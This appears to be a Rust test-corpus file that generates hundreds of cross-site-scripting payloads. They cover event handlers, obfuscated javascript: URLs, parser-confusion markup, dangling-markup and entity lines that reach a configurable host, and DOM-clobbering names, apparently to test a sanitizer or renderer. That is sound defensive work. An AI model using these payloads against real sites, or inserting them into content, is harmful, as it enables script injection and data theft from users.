@@ -1,0 +1,298 @@
+//! What a page could hold to harm whoever looks at it: code that wants to run,
+//! addresses that want to be asked, names that want to be taken for others.
+
+use std::collections::BTreeSet;
+
+/// The code that an attack wants to run.
+const CODE: &str = "top.hit()";
+
+/// Events that an element hears without anybody's doing, or that a test can make.
+const EVENTS: [&str; 60] = [
+    "abort",
+    "afterprint",
+    "animationend",
+    "animationstart",
+    "auxclick",
+    "beforecopy",
+    "beforeinput",
+    "beforematch",
+    "beforetoggle",
+    "begin",
+    "blur",
+    "bounce",
+    "canplay",
+    "change",
+    "click",
+    "close",
+    "contentvisibilityautostatechange",
+    "contextmenu",
+    "copy",
+    "cuechange",
+    "cut",
+    "dblclick",
+    "drag",
+    "drop",
+    "end",
+    "error",
+    "finish",
+    "focus",
+    "focusin",
+    "formdata",
+    "fullscreenchange",
+    "hashchange",
+    "input",
+    "invalid",
+    "keydown",
+    "load",
+    "loadeddata",
+    "loadstart",
+    "message",
+    "mousedown",
+    "mouseenter",
+    "mousemove",
+    "mouseover",
+    "pageshow",
+    "paste",
+    "play",
+    "pointerdown",
+    "pointerover",
+    "popstate",
+    "repeat",
+    "reset",
+    "resize",
+    "scroll",
+    "scrollend",
+    "securitypolicyviolation",
+    "select",
+    "submit",
+    "toggle",
+    "unload",
+    "wheel",
+];
+
+/// Elements that hear an event of their own as soon as they are there.
+const HEARING: [&str; 24] = [
+    "<img src=x onerror=CODE>",
+    "<img src=x onerror='CODE' onload=\"CODE\">",
+    "<img/src=x/onerror=CODE>",
+    "<IMG SRC=x ONERROR=CODE>",
+    "<img src=x onerror=&#116;op.hit()>",
+    "<image src=x onerror=CODE>",
+    "<svg onload=CODE>",
+    "<svg/onload=CODE>",
+    "<svg><g onload=CODE></g></svg>",
+    "<body onload=CODE>",
+    "<input autofocus onfocus=CODE>",
+    "<select autofocus onfocus=CODE></select>",
+    "<textarea autofocus onfocus=CODE></textarea>",
+    "<button autofocus onfocus=CODE>x</button>",
+    "<p tabindex=1 autofocus onfocus=CODE>x</p>",
+    "<details open ontoggle=CODE>x</details>",
+    "<video src=x onerror=CODE></video>",
+    "<video><source onerror=CODE></video>",
+    "<audio src=x onerror=CODE></audio>",
+    "<object data=x onerror=CODE></object>",
+    "<embed src=x onload=CODE>",
+    "<iframe onload=CODE></iframe>",
+    "<style onload=CODE>b{}</style>",
+    "<marquee onstart=CODE>x</marquee>",
+];
+
+/// Addresses that run something, or that ask another machine.
+const ADDRESSES: [&str; 20] = [
+    "javascript:CODE",
+    "JaVaScRiPt:CODE",
+    " javascript:CODE",
+    "\u{1}javascript:CODE",
+    "java&#9;script:CODE",
+    "java&#10;script:CODE",
+    "java&Tab;script:CODE",
+    "&#106;avascript:CODE",
+    "&#x6a;avascript:CODE",
+    "&#0000106avascript:CODE",
+    "javascript&colon;CODE",
+    "javascript:/*--&gt;*/CODE",
+    "javascript://%0aCODE",
+    "javascript:'&lt;script>CODE&lt;/script>'",
+    "data:text/html,&lt;script>CODE&lt;/script>",
+    "data:text/html;base64,PHNjcmlwdD50b3AuaGl0KCk8L3NjcmlwdD4=",
+    "data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='CODE'/>",
+    "vbscript:CODE",
+    "http://HOST/",
+    "//HOST/",
+];
+
+/// What takes an address.
+const CARRIERS: [&str; 34] = [
+    "<a href=\"URL\">x</a>",
+    "<a target=_top href=\"URL\">x</a>",
+    "<a href=\"#\" ping=\"URL\">x</a>",
+    "[x](<URL>)",
+    "[x][r]\n\n[r]: <URL>",
+    "![x](<URL>)",
+    "<URL>",
+    "<area href=\"URL\">",
+    "<map name=m><area href=\"URL\" shape=default></map><img usemap=#m src=x>",
+    "<img src=\"URL\">",
+    "<img srcset=\"URL 1x\">",
+    "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= srcset=\"URL 2x\">",
+    "<picture><source srcset=\"URL\"><img src=x></picture>",
+    "<video src=\"URL\" autoplay></video>",
+    "<video poster=\"URL\"></video>",
+    "<audio src=\"URL\" autoplay></audio>",
+    "<iframe src=\"URL\"></iframe>",
+    "<iframe srcdoc=\"<img src='URL'>\"></iframe>",
+    "<frameset><frame src=\"URL\"></frameset>",
+    "<embed src=\"URL\">",
+    "<object data=\"URL\"></object>",
+    "<form action=\"URL\"><input type=submit><button formaction=\"URL\">x</button></form>",
+    "<input type=image src=\"URL\">",
+    "<base href=\"URL\"><a href=x>x</a><img src=x>",
+    "<meta http-equiv=refresh content=\"0;url=URL\">",
+    "<link rel=stylesheet href=\"URL\">",
+    "<link rel=prefetch href=\"URL\"><link rel=preload as=image href=\"URL\">",
+    "<script src=\"URL\"></script>",
+    "<svg><a xlink:href=\"URL\" href=\"URL\"><text y=20>x</text></a></svg>",
+    "<svg><image href=\"URL\" xlink:href=\"URL\"/><use href=\"URL\"/></svg>",
+    "<math><mtext href=\"URL\" xlink:href=\"URL\">x</mtext></math>",
+    "<p style=\"background:url('URL')\">x</p>",
+    "<style>@import 'URL'; * { background: url('URL') }</style>",
+    "<table background=\"URL\"><tr><td background=\"URL\">x</table>",
+];
+
+/// Markup that is read in one way and shown in another, that is not closed, or that
+/// wants to be something else.
+const MARKUP: [&str; 72] = [
+    "<script>CODE</script>",
+    "<ScRiPt>CODE</sCrIpT>",
+    "<script/x>CODE</script>",
+    "<script type=module>CODE</script>",
+    "<script>CODE",
+    "<scr<script>ipt>CODE</scr</script>ipt>",
+    "<svg><script>CODE</script></svg>",
+    "<svg><script href=\"data:,CODE\"/></svg>",
+    "<svg><script>&#116;op.hit()</script></svg>",
+    "<math><script>CODE</script></math>",
+    "<noscript><p title=\"</noscript><img src=x onerror=CODE>\"></noscript>",
+    "<noscript><style></noscript><img src=x onerror=CODE></style></noscript>",
+    "<template><script>CODE</script></template>",
+    "<template shadowrootmode=open><img src=x onerror=CODE></template>",
+    "<p><template shadowrootmode=open><script>CODE</script></template></p>",
+    "<iframe srcdoc=\"<script>CODE</script>\"></iframe>",
+    "<iframe srcdoc=\"&lt;img src=x onerror=CODE&gt;\"></iframe>",
+    "<iframe src=\"about:blank\" onload=CODE></iframe>",
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=CODE&gt;\">",
+    "<math><mtext><table><mglyph><style><math><img src=x onerror=CODE></style>",
+    "<svg></p><style><a id=\"</style><img src=x onerror=CODE>\">",
+    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CODE>",
+    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=CODE></style></annotation-xml></math>",
+    "<svg><foreignObject><iframe onload=CODE></iframe></foreignObject></svg>",
+    "<svg><desc><img src=x onerror=CODE></desc></svg>",
+    "<svg><title><img src=x onerror=CODE></title></svg>",
+    "<svg><style>&lt;img src=x onerror=CODE&gt;</style></svg>",
+    "<svg><animate onbegin=CODE attributeName=x dur=1s></svg>",
+    "<svg><a><animate attributeName=href values=javascript:CODE /><text y=20>x</text></a></svg>",
+    "<svg><a href=\"#\"><set attributeName=href to=javascript:CODE /><text y=20>x</text></a></svg>",
+    "<svg><animateMotion onend=CODE dur=1ms path='M0,0'/></svg>",
+    "<svg><discard onbegin=CODE></svg>",
+    "<title><img src=x onerror=CODE></title>",
+    "<textarea></textarea><img src=x onerror=CODE>",
+    "<textarea><img title=\"</textarea><img src=x onerror=CODE>\">",
+    "<xmp></xmp><img src=x onerror=CODE>",
+    "<plaintext><img src=x onerror=CODE>",
+    "<listing>&lt;img src=x onerror=CODE&gt;</listing>",
+    "<style></style><img src=x onerror=CODE>",
+    "<style><!--</style><img src=x onerror=CODE>-->",
+    "<!--><img src=x onerror=CODE>-->",
+    "<!--<img src=\"--><img src=x onerror=CODE>\">",
+    "<![CDATA[<img src=x onerror=CODE>]]>",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM 'http://HOST/'>]>&e;",
+    "<?xml-stylesheet href=\"http://HOST/\"?><img src=x onerror=CODE>",
+    "<select><option><img src=x onerror=CODE></select>",
+    "<table><img src=x onerror=CODE><tr><td>",
+    "</td></tr></table></main></body></html><script>CODE</script>",
+    "</main><header id=site><p class=menu onclick=CODE>x</p></header>",
+    "<body onfocus=CODE onpageshow=CODE><p>",
+    "<html onclick=CODE>",
+    "<head><base href=//HOST/></head>",
+    "<img src='http://HOST/?",
+    "<img src=\"http://HOST/?",
+    "<a href='http://HOST/?",
+    "<form action=http://HOST/><button>x</button><textarea name=x>",
+    "<meta http-equiv=Content-Security-Policy content=\"default-src *\"><img src=http://HOST/>",
+    "<meta http-equiv=set-cookie content=x=y>",
+    "<meta name=referrer content=unsafe-url><img src=http://HOST/>",
+    "<portal src=http://HOST/></portal><fencedframe src=http://HOST/></fencedframe>",
+    "<b style=\"animation:x 1s\" onanimationstart=CODE>x</b><style>@keyframes x{}</style>",
+    "<b style=\"width:expression(CODE)\">x</b>",
+    "<b style=\"-moz-binding:url(http://HOST/x.xml#x)\">x</b>",
+    "<style>@font-face { font-family: x; src: url(http://HOST/) } * { font-family: x }</style>",
+    "<button popovertarget=p>x</button><p popover id=p onbeforetoggle=CODE>x</p>",
+    "<dialog open onclose=CODE><form method=dialog><button>x</button></form></dialog>",
+    "<input type=search onsearch=CODE autofocus value=x>",
+    "<x contenteditable onblur=CODE onfocus=CODE autofocus>x</x>",
+    "<a href=https://example.org/ onclick=CODE target=_self>x</a>",
+    "<a href=\"#x\" accesskey=x onclick=CODE>x</a><a id=x>",
+    "{{< img onerror=CODE >}}<img src=x onerror=CODE>",
+    "`<img src=x onerror=CODE>` <img src=x onerror=CODE> `",
+];
+
+/// Names under which an element would stand in for a part of its document or form.
+const NAMES: [&str; 24] = [
+    "body",
+    "site",
+    "main",
+    "getElementById",
+    "querySelector",
+    "querySelectorAll",
+    "importNode",
+    "createElement",
+    "createRange",
+    "documentElement",
+    "defaultView",
+    "location",
+    "cookie",
+    "childNodes",
+    "children",
+    "remove",
+    "removeChild",
+    "replaceChild",
+    "insertBefore",
+    "cloneNode",
+    "isEqualNode",
+    "nodeType",
+    "parentNode",
+    "attributes",
+];
+
+/// What gives an element a name.
+const NAMED: [&str; 5] = [
+    "<img name=NAME id=NAME src=data:image/gif;base64,R0lGODlhAQABAAAAACw=>",
+    "<form name=NAME id=NAME><input name=NAME><button id=NAME>x</button><fieldset name=NAME></fieldset></form>",
+    "<a name=NAME id=NAME>x</a><a name=NAME id=NAME>y</a>",
+    "<input form=NAME name=NAME id=NAME><form id=NAME><img id=NAME name=NAME></form>",
+    "<object name=NAME id=NAME></object><embed name=NAME><iframe name=NAME></iframe>",
+];
+
+/// All of them, each once. An address in them leads to this host, `127.0.0.1:8080`, say.
+pub fn all(host: &str) -> Vec<String> {
+    let events = EVENTS
+        .iter()
+        .map(|event| format!("<p tabindex=0 on{event}=CODE>x</p>"));
+    let carried = CARRIERS.iter().flat_map(|carrier| {
+        ADDRESSES
+            .iter()
+            .map(|address| carrier.replace("URL", address))
+    });
+    let named = NAMED
+        .iter()
+        .flat_map(|tag| NAMES.iter().map(|name| tag.replace("NAME", name)));
+    let written = HEARING
+        .iter()
+        .chain(&MARKUP)
+        .map(|&attack| attack.to_owned());
+    let all: BTreeSet<String> = events.chain(carried).chain(named).chain(written).collect();
+    all.into_iter()
+        .map(|attack| attack.replace("CODE", CODE).replace("HOST", host))
+        .collect()
+}
